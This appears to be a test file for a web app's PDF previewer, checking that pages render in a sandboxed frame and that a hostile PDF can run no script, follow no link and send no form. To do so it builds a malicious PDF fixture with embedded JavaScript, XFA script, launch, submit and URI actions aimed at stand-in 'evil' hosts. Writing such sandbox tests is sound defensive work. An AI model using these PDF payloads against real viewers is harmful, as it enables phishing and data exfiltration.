/** PDF files of a job, looked at in Chromium over a scripted server: they are drawn, and whatever is in them runs nothing and reaches nothing. */

import { expect } from "vitest";
import { eventually, open, page, server, test, useChromium, violations } from "./chromium-screens.mjs";
import { pagesOf } from "./pdf-files.mjs";
import { completed } from "./scripted-server.mjs";

let files;
useChromium({ width: 1280, height: 800, answers: () => {
  files = [];
  return { "/jobs/one": { ...completed("one"), story: [] }, "/jobs/one/files": () => files };
} });

/** Opens a file of the job; returns its frame once that has said what it has. */
async function opened(content) {
  const path = "outputs/default/report.pdf";
  files.push({ path, size: content.length });
  server.answers[`/jobs/one/files/${path}`] = content;
  await open(`/jobs/one?tab=outputs&file=${path}`);
  await page.locator(".preview h2").waitFor();
  return page.frames().at(-1);
}

const canvases = (frame) => frame.locator("canvas").evaluateAll((all) => all.map((one) => {
  const { data } = one.getContext("2d").getImageData(0, 0, one.width, one.height);
  let dark = 0;
  for (let n = 0; n < data.length; n += 4) dark += data[n] < 100 && data[n + 3] > 200 ? 1 : 0;
  return { label: one.getAttribute("aria-label"), area: one.width * one.height, dark };
}));

test("the pages of a PDF are drawn in a frame, with a name each", async () => {
  await opened(pagesOf(3));
  await page.getByText("3 pages; links and forms do nothing here").waitFor();
  const frame = page.frameLocator(".preview-html");
  await eventually(() => frame.locator("canvas").count()).toBe(3);
  const drawn = await canvases(page.frames().at(-1));
  expect(drawn.map((one) => one.label)).toEqual(["Page 1 of 3", "Page 2 of 3", "Page 3 of 3"]);
  for (const one of drawn) expect(one.dark).toBeGreaterThan(one.area * 0.05);
  const { width } = await page.locator(".preview-html").boundingBox();
  expect((await frame.locator("canvas").first().boundingBox()).width).toBeLessThanOrEqual(width);
  expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBeLessThanOrEqual(1600);
  expect(await violations("main")).toEqual([]);
  if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/pdf.png`, fullPage: true });
});

test("a hostile PDF runs no script, follows no link, sends no form, and its frame has neither origin nor network", async () => {
  const evil = `${server.origin}/api/v1/evil`;
  const [foreign, dialogs] = [[], []];
  page.context().on("page", (one) => foreign.push(`a window: ${one.url()}`));
  page.context().on("request", (one) => !one.url().startsWith(`${server.origin}/`) && !/^(blob|data):/.test(one.url()) && foreign.push(one.url()));
  page.on("dialog", (one) => {
    dialogs.push(one.message());
    void one.dismiss();
  });
  const script = `<< /S /JavaScript /JS (app.alert\\('pwned'\\); app.launchURL\\('${evil}?launch', true\\); this.submitForm\\('${evil}?form'\\);) >>`;
  const rest = 4 + 2;
  await opened(pagesOf(1, {
    catalog: `/OpenAction ${rest} 0 R /Names << /JavaScript << /Names [(a) ${rest} 0 R] >> >> /AA << /WC ${rest} 0 R >> /AcroForm << /Fields [${rest + 2} 0 R] /XFA ${rest + 3} 0 R >>`,
    page: `/AA << /O << /S /URI /URI (${evil}?opened) >> >> /Annots [${rest + 1} 0 R ${rest + 2} 0 R]`,
    others: [
      script,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${evil}?link) /Next << /S /GoToR /F (https://evil.example/x.pdf) /D [0 /Fit] >> >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 300 200] /A << /S /SubmitForm /F (${evil}?submit) >> /AA << /E ${rest} 0 R /U ${rest} 0 R >> >>`,
      ["<< >>", `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert("xfa")</script></event></subform></template></xdp:xdp>`],
    ],
  }));
  await page.frameLocator(".preview-html").locator("canvas").waitFor();
  const address = page.url();
  await page.frameLocator(".preview-html").locator("canvas").click();
  const frame = page.frames().at(-1);
  const tried = await frame.evaluate(async (to) => {
    const of = (action) => Promise.resolve().then(action).then(() => "done", (error) => error.name);
    return [await of(() => document.cookie), await of(() => localStorage.length), await of(() => parent.document.title), await of(() => fetch(to)), String(globalThis.origin)];
  }, `${evil}?fetched`);
  expect(tried).toEqual(["SecurityError", "SecurityError", "SecurityError", "TypeError", "null"]);
  await frame.evaluate((to) => document.body.append(Object.assign(new Image(), { src: to })), `${evil}?image`);
  await page.waitForTimeout(500);
  expect([foreign, dialogs, server.asked.filter((one) => one.includes("evil"))]).toEqual([[], [], []]);
  expect(page.url()).toBe(address);
});

test("of many pages the first are drawn, and pages of any size within a bound", async () => {
  await opened(pagesOf(500));
  await page.getByText("500 pages, of which the first 20 are shown").waitFor();
  await eventually(() => page.frameLocator(".preview-html").locator("canvas").count()).toBe(20);
  for (const box of ["0 0 1000000 1000000", "0 0 2 14400", "0 0 14400 2"]) {
    files = [];
    await opened(pagesOf(1, { box }));
    await page.frameLocator(".preview-html").locator("canvas").waitFor();
    const [one] = await canvases(page.frames().at(-1));
    expect(one.area).toBeLessThanOrEqual(4_000_000);
  }
});

test("a file that is no PDF says so", async () => {
  await opened(Buffer.from("<script>alert(1)</script>"));
  await page.getByText("It can't be read as PDF: download it to look at it.").waitFor();
});
